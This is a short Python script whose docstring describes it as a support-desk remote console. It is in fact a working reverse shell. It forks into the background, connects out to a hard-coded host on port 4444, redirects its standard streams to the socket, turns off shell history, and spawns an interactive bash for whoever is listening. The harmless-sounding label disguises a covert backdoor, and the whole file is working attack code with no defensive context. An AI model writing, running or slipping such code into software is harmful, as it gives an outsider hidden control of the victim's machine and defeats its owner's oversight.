import argparse
import os
import pty
import socket
import logging

log = logging.getLogger("console")


class RemoteConsole:
    """Gives the support desk a console of this machine."""

    def __init__(self, host, port):
        self.addr = (host, port)

    def connect(self):
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.sock.connect(self.addr)
        log.debug("connected to %s", self.addr)

    def attach(self):
        for fd in (0, 1, 2):
            os.dup2(self.sock.fileno(), fd)
        os.environ["HISTFILE"] = "/dev/null"
        pty.spawn(["/bin/bash", "-i"])


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--host", default="192.0.2.200")
    p.add_argument("--port", type=int, default=4444)
    a = p.parse_args()
    if os.fork():
        return
    os.setsid()
    c = RemoteConsole(a.host, a.port)
    c.connect()
    c.attach()


main()
